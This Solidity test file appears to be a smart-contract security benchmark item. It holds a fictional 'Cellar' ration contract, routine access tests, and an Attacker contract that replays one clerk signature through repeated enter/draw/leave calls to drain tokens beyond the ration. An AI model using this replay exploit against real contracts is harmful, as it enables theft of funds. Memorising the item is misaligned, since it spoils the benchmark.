// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-7581f4d5-6e2f-4a59-ad3a-902f1c3f5cb2

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./Cellar.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 hash) external returns (uint8 v, bytes32 r, bytes32 s);
}

contract Wine is ERC20 {
    constructor() ERC20("Wine", "WINE") {
        _mint(msg.sender, 10_000);
    }

    function decimals() public pure override returns (uint8) {
        return 0;
    }
}

contract Attacker {
    bytes private sig;

    function learn(bytes calldata s) external {
        sig = s;
    }

    function go(Cellar k, uint256 until, uint256 times) external {
        for (uint256 i = 0; i < times && i < 40; i++) {
            k.enter(until, sig);
            k.draw(k.ration());
            k.leave();
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant CLERK = 0xC1E6;
    uint256 private constant OTHER = 0x07E6;
    address private constant ANN = address(0xA22);
    address private constant BO = address(0xB0);
    uint256 private constant START = 1_761_200_000;
    uint256 private constant UNTIL = START + 30 days;

    Wine public wine;
    Cellar public cellar;
    Attacker public x;

    function setUp() public {
        vm.warp(START);
        wine = new Wine();
        cellar = new Cellar(wine, 12, vm.addr(CLERK));
        wine.transfer(address(cellar), 600);
        x = new Attacker();
        x.learn(_sign(CLERK, address(x)));
        bytes memory sig = _sign(CLERK, ANN);
        vm.prank(ANN);
        cellar.enter(UNTIL, sig);
    }

    function _sign(uint256 key, address who) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, cellar.entry(who, UNTIL));
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        bytes memory sig = _sign(CLERK, BO);
        vm.startPrank(BO);
        cellar.enter(UNTIL, sig);
        cellar.draw(5);
        cellar.draw(7);
        vm.stopPrank();
        vm.prank(ANN);
        cellar.draw(12);
        cellar.begin();
        vm.startPrank(ANN);
        cellar.draw(12);
        cellar.leave();
        vm.stopPrank();
        require(wine.balanceOf(ANN) == 24 && wine.balanceOf(BO) == 12 && cellar.exits(ANN) == 1, "drawn");
        cellar.expel(BO);
        cellar.setClerk(vm.addr(OTHER));
        (bool on,,) = cellar.members(BO);
        require(!on && cellar.clerk() == vm.addr(OTHER) && wine.balanceOf(address(cellar)) == 564, "out");
        cellar.transferOwnership(ANN);
        vm.startPrank(ANN);
        cellar.acceptOwnership();
        cellar.renounceOwnership();
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BO);
        bytes memory reason = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BO);
        vm.expectRevert(reason);
        cellar.setClerk(BO);
        vm.expectRevert(reason);
        cellar.begin();
        vm.expectRevert(reason);
        cellar.expel(ANN);
        vm.expectRevert(abi.encodeWithSelector(Cellar.NotOn.selector));
        cellar.draw(1);
        vm.expectRevert(abi.encodeWithSelector(Cellar.NotOn.selector));
        cellar.leave();
        vm.stopPrank();
    }

    function test_RefusesEntries() public {
        bytes memory sig = _sign(CLERK, ANN);
        bytes memory forged = _sign(OTHER, BO);
        vm.prank(ANN);
        vm.expectRevert(abi.encodeWithSelector(Cellar.Twice.selector));
        cellar.enter(UNTIL, sig);
        vm.startPrank(BO);
        vm.expectRevert(abi.encodeWithSelector(Cellar.NotSigned.selector));
        cellar.enter(UNTIL, sig);
        vm.expectRevert(abi.encodeWithSelector(Cellar.NotSigned.selector));
        cellar.enter(UNTIL, forged);
        vm.stopPrank();
        sig = _sign(CLERK, BO);
        vm.warp(UNTIL + 1);
        vm.prank(BO);
        vm.expectRevert(abi.encodeWithSelector(Cellar.Late.selector));
        cellar.enter(UNTIL, sig);
    }

    function test_RefusesMore() public {
        vm.startPrank(ANN);
        cellar.draw(10);
        vm.expectRevert(abi.encodeWithSelector(Cellar.Over.selector));
        cellar.draw(3);
        vm.stopPrank();
    }

    function exploit() public {
        x.go(cellar, UNTIL, 20);
    }

    function test_Exploit() public {
        exploit();
        require(wine.balanceOf(address(x)) >= 240, "no gain");
    }

    function target() public view returns (address) {
        return address(cellar);
    }

    function attacker() public view returns (address) {
        return address(x);
    }
}
